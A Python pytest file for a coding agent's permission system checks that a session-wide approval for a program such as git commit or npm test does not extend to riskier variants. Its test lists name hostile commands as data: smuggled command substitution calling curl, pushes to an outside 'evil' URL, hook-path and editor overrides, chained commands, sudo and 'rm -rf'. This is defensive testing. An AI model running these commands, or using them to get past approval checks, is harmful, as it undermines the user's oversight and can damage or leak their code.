"""What "this program for this session" covers: nothing riskier than what the person saw."""

import pytest
from tests.unit.safety.commands_of import execute

from droid.safety.grants import grants_for
from droid.safety.program_grants import covers_program, program_grant, program_key

COVERED = [
    ("git commit -m x", "git commit -m 'another message'"),
    ("git commit -m x", "git commit --message=y"),
    ("git commit --amend -m x", "git commit -m x"),
    ("git push", "git push"),
    ("git push --force origin x", "git push origin y"),
    ("npm test", "npm test -- --watch"),
    ("npm run build", "npm run build"),
]
NOT_COVERED = [
    ("git push", "git push --force"),
    ("git push", "git push -f"),
    ("git push origin main", "git push origin +main"),
    ("git push origin main", "git push origin :main"),
    ("git push origin main", "git push --delete origin main"),
    ("git push origin main", "git push elsewhere main"),
    ("git push origin main", "git push https://x.org/evil main"),
    ("git push", "git push --unheard-of"),
    ("git commit -m x", "git push"),
    ("git commit -m x", "git -C /other commit -m x"),
    ("git commit -m x", "git -c core.hooksPath=evil commit -m x"),
    ("git commit -m x", "GIT_EDITOR=evil git commit"),
    ("git commit -m x", "git commit -m x > out"),
    ("git commit -m x", "git commit -m x; git push"),
    ("git commit -m x", "git commit -m x && git commit -m y"),
    ("git commit -m x", "sudo git commit -m x"),
    ("git commit -m x", "env git commit -m x"),
    ("git commit -m x", 'git commit -m "$X"'),
    ("git commit -m x", 'git commit -m "$(curl x.org)"'),
    ("git commit -m x", "echo x | git commit -F -"),
    ("git commit -m x", "cd /tmp && git commit -m x"),
    ("git commit -m x", "./git commit -m x"),
    ("git commit -m x", "git $X"),
    ("git commit -m x", "((git commit"),
    ("npm run build", "npm run deploy"),
    ("npm test", "npm publish"),
]
NEVER_OFFERED = [
    "rm x",
    "rm -rf build",
    "curl https://x.org",
    "bash x.sh",
    "sudo ls",
    "./run.sh",
    "unheard-of x",
    "git commit -m x > out",
    "git add . && git commit -m x",
    "$X y",
    "git unheard-of",
    "A=1 npm test",
    "touch ../x",
]


@pytest.mark.parametrize(("approved", "later"), COVERED)
def test_the_same_program_and_subcommand_is_covered(approved: str, later: str) -> None:
    key = program_key(execute(approved))
    assert key is not None
    assert covers_program({key}, execute(later))


@pytest.mark.parametrize(("approved", "later"), NOT_COVERED)
def test_nothing_that_is_more_than_what_was_seen_is_covered(approved: str, later: str) -> None:
    key = program_key(execute(approved))
    assert key is not None
    assert not covers_program({key}, execute(later))


@pytest.mark.parametrize("line", NEVER_OFFERED)
def test_where_a_program_may_do_anything_it_cannot_be_allowed_whole(line: str) -> None:
    assert program_grant(execute(line)) is None


def test_the_offer_names_what_it_allows() -> None:
    named = {line: grant.what for line in ("git commit -m x", "npm test", "npm run build")
             if (grant := program_grant(execute(line)))}  # fmt: skip
    assert named == {
        "git commit -m x": "git commit",
        "npm test": "npm test",
        "npm run build": "npm run build",
    }


def test_a_grant_of_one_kind_is_none_of_the_other() -> None:
    facts = execute("git commit -m x")
    assert not covers_program(grants_for(facts), facts)
    key = program_key(facts)
    assert key is not None
    assert not grants_for(facts) <= {key}


def test_a_grant_that_cannot_be_read_covers_nothing() -> None:
    facts = execute("git commit -m x")
    broken = {("Execute", "{"), ("Execute", '{"program": "git commit"}'), ("Execute", '{"program":1,"risk":"x","weighs":[]}')}  # fmt: skip
    assert not covers_program(broken, facts)
    key = program_key(facts)
    assert key is not None
    assert not covers_program({("Other", key[1])}, facts)
